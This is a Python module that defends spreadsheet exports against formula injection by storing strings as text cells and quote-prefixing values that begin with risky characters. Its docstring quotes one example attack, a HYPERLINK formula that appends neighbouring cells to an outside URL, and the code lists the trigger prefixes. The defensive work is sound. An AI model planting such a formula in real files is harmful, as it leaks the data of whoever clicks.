"""Cells written from data, for every .xlsx the app makes: text stays text.

openpyxl stores a string that starts with ``=`` as a formula, and a spreadsheet takes a cell
typed as ``+…``, ``-…``, ``@…`` (some also a tab or a carriage return first) as one too: an
address such as ``=HYPERLINK("http://…?d="&B7&C7,"Bấm vào đây")`` would send the
neighbouring cells away on one click. So every string goes in as a string cell (``t="s"``,
which no spreadsheet evaluates), and one that starts with such a character also carries the
quote prefix: the file's own form of the apostrophe typed before text in Excel, shown by
nobody, kept when the cell is edited, so the text stays text even then. The value itself is
unchanged, so what the police fill in and the officer imports reads back as written.

Characters an .xlsx cannot hold (control characters but tab and line breaks) are dropped
rather than failing the whole export.
"""

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

RISKY = ("=", "+", "-", "@", "\t", "\r")


def append(sheet: Worksheet, values) -> int:
    """Write ``values`` as the row after the last one, as ``sheet.append`` does (strings as
    text, numbers and dates as openpyxl types them); the row's number."""
    values = [_clean(v) for v in values]
    sheet.append(values)
    row = sheet._current_row  # where append wrote
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            _as_text(sheet.cell(row=row, column=column))
    return row


def _clean(value):
    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value


def _as_text(cell: Cell) -> None:
    if isinstance(cell.value, str):
        cell.data_type = "s"  # openpyxl made "=…" a formula ("f")
        if cell.value.startswith(RISKY):
            cell.quotePrefix = True
